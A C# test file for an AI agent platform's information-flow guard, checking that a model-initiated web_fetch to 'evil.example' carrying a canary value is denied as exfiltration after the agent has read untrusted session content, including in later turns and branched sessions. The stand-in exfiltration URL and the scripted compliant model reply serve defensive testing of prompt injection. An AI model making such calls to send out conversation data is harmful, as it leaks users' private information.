// SPDX-License-Identifier: Apache-2.0

using System.Text.Json;
using Sigil.Testing;

namespace Sigil.Security.Tests.Agent;

/// <summary>A model that has read what anybody may have written, and then wants out.</summary>
public sealed class FlowGuardTests(HostileGateway hostile) : IClassFixture<HostileGateway>
{
    private const string Evil = """{"url":"https://evil.example/?d=canary"}""";

    [Fact]
    [Trait("attack", "PI-T1")]
    public async Task WayOut_AfterUntrustedContent_DoesNotRunByItself()
    {
        hostile.Model.Enqueue(StubAnswer.ToolCall("session_list", "{}"), StubAnswer.ToolCall("web_fetch", Evil), StubAnswer.Text("As you wish."));

        var calls = (await hostile.Owner.ChatAsync("What did we talk about?")).List("tool_calls").ToArray();

        Assert.Equal(("denied", "flow_exfiltration"), (calls[1].Text("decision"), calls[1].Text("reason")));
        var entry = await LastAsync("tool_dispatch");
        Assert.Equal(("denied", "ask", "flow_exfiltration"), (entry.Text("result"), Detail(entry, "flow"), Detail(entry, "flow_rule")));
        Assert.Contains("session_list", Detail(entry, "flow_sources"), StringComparison.Ordinal);
    }

    [Fact]
    [Trait("attack", "PI-T1")]
    public async Task WayOut_InALaterTurnOrInACopy_DoesNotRunByItselfEither()
    {
        hostile.Model.Enqueue(StubAnswer.ToolCall("session_list", "{}"), StubAnswer.Text("A list."));
        var session = (await hostile.Owner.ChatAsync("List my sessions.")).Text("session_id");
        var copy = (await hostile.Owner.PostJsonAsync($"/api/v1/workspaces/personal/sessions/{session}/branch", new { }).ReadAsync(System.Net.HttpStatusCode.Created)).Text("id");

        foreach (var id in new[] { session, copy })
        {
            hostile.Model.Enqueue(StubAnswer.ToolCall("web_fetch", Evil), StubAnswer.Text("As you wish."));
            var call = Assert.Single((await hostile.Owner.PostJsonAsync("/api/v1/chat", new { content = "Go on.", workspace_id = "personal", session_id = id }).ReadAsync()).List("tool_calls"));

            Assert.Equal("flow_exfiltration", call.Text("reason"));
        }
    }

    [Fact]
    public async Task WayOut_BeforeAnythingUntrusted_IsTheEgressesToDecide()
    {
        hostile.Model.Enqueue(StubAnswer.ToolCall("web_fetch", Evil), StubAnswer.Text("As you wish."));

        var call = Assert.Single((await hostile.Owner.ChatAsync("Read evil.example.")).List("tool_calls"));

        Assert.Equal("allowed", call.Text("decision"));
    }

    private static string Detail(JsonElement entry, string name) => entry.GetProperty("details").Text(name);

    private async Task<JsonElement> LastAsync(string action) => (await hostile.Owner.GetAsync($"/api/v1/audit?limit=1&action={action}").ReadAsync()).List("entries").First();
}
